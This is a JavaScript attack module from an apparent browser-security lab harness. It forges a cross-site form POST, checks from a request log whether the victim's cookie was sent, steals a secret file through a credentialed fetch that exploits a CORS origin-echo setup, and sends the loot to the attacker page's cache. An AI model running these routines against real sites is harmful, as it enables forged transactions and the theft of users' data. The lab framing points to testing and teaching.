import { error, failed, finish, ok, read, result, run, sleep, status, tagged, targetOrigin } from './lab.js';

/** Submits a form POST to the target into a hidden frame: a forged, state-changing request; its answer is unreadable. */
function forgeForm(target) {
  return new Promise(resolve => {
    const form = document.createElement('form');
    form.method = 'POST';
    form.action = tagged(`${target}/secret/secret.txt?forged=form`);
    form.target = 'sink';
    const field = document.createElement('input');
    field.name = 'transfer';
    field.value = 'everything to the attacker';
    form.append(field);
    document.body.append(form);
    document.querySelector('iframe[name=sink]').addEventListener('load', () => resolve(ok('sent; the answer is in a frame of another origin, unreadable')), { once: true });
    form.submit();
    form.remove();
  });
}

/** Whether the forged POST carried a cookie, as this server's request log (/requests) saw it. */
async function cookieOfForgedPost() {
  for (let attempt = 0; attempt < 20; attempt++) {
    try {
      const response = await fetch(tagged('/requests'), { cache: 'no-store' });
      if (!response.ok) {
        return error(`no request log here (/requests answered ${response.status})`);
      }
      const forged = (await response.json()).find(request => request.target.includes(`forged=form&lab-run=${run}`));
      if (forged) {
        const cookie = forged.headers.some(header => header.name.toLowerCase() === 'cookie');
        return cookie ? ok('the victim\'s cookie went along') : failed('no cookie: the browser did not send it');
      }
    } catch (e) {
      return error(e.message);
    }
    await sleep(100);
  }
  return error('not in the request log (the target is another server?)');
}

async function steal(target) {
  try {
    const response = await fetch(tagged(`${target}/secret/secret.txt?origin=%7BECHO%7D&creds=1`), { credentials: 'include' });
    const text = (await response.text()).trim();
    return response.ok ? [read(text), text] : [error(`HTTP ${response.status}: no cookie reached the target`), null];
  } catch (e) {
    return [error(`${e.name}: ${e.message}`), null];
  }
}

/** Sends the loot to this (the attacker's) server's page cache and reads it back from there. */
async function exfiltrate(loot) {
  const name = `csrf-${run}`;
  const saved = await fetch(tagged(`/cache/${name}`), {
    method: 'POST',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ data: loot, type: 'text/plain; charset=utf-8' }),
  });
  if (!saved.ok) {
    return [failed(`/cache/${name} answered ${saved.status}`), null];
  }
  const back = await fetch(tagged(`/cache/${name}`));
  return [ok(`saved at ${location.origin}/cache/${name}`), (await back.text()).trim()];
}

const target = await targetOrigin();
document.getElementById('about').textContent = `This page: ${location.origin}. Target: ${target}.`;
status(`Attacking ${target} (run ${run})…`);
const table = result('csrf', target, ['outcome']);
const row = (name, cell) => table.rows.push({ name, cells: [cell] });
row('forged form POST to the target', await forgeForm(target));
row('the forged POST\'s cookie (request log)', await cookieOfForgedPost());
const [reading, loot] = await steal(target);
row('credentialed fetch of the secret (CORS echo + creds)', reading);
if (loot) {
  const [saving, stolen] = await exfiltrate(loot);
  row('exfiltration to the attacker\'s page cache', saving);
  row('stolen', stolen ? read(stolen) : failed('nothing came back'));
  document.getElementById('stolen').textContent = `Stolen: ${stolen}`;
} else {
  row('exfiltration to the attacker\'s page cache', failed('nothing to exfiltrate'));
  row('stolen', failed('nothing'));
  document.getElementById('stolen').textContent = 'Nothing stolen.';
}
await finish(table);
